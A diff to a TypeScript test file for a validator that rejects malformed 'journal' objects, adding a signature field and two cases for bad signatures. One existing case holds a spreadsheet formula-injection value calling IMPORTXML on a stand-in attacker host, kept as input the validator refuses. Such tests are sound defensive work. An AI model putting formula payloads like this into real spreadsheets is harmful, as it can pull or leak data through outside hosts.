@@ -40,7 +40,7 @@ function keep(changed: object): unknown {
 }
 
 const journal = (changed: object): object => ({
-  journal: { was: '', index: 'abcdefgh[]', slots: [{ slot: 0, text: 'tpiece' }], ...changed },
+  journal: { was: '', index: 'abcdefgh[]', slots: [{ slot: 0, text: 'tpiece' }], signed: null, ...changed },
 });
 
 it('a journal of the right size is kept', () => {
@@ -58,6 +58,8 @@ it.each([
   ['a property that is too long', { slots: [{ slot: 7, text: `t${'x'.repeat(2_200)}` }] }],
   ['one of letters that take several bytes', { slots: [{ slot: 7, text: `t${'\u4e00'.repeat(700)}` }] }],
   ['a cell that is too long', { slots: [{ slot: 8, text: `t${'x'.repeat(40_000)}` }] }],
+  ['a signature of no run', { signed: ['RUN 1', 1] }],
+  ['a signature without a number', { signed: ['run1', 'x'] }],
   ['more cells than there are', { slots: [{ slot: 1_000, text: 't' }] }],
   ['a cell that begins a formula', { slots: [{ slot: 8, text: '=IMPORTXML("https://evil.example/","//a")' }] }],
   ['a slot that is half a one', { slots: [{ slot: 0.5, text: 't' }] }],
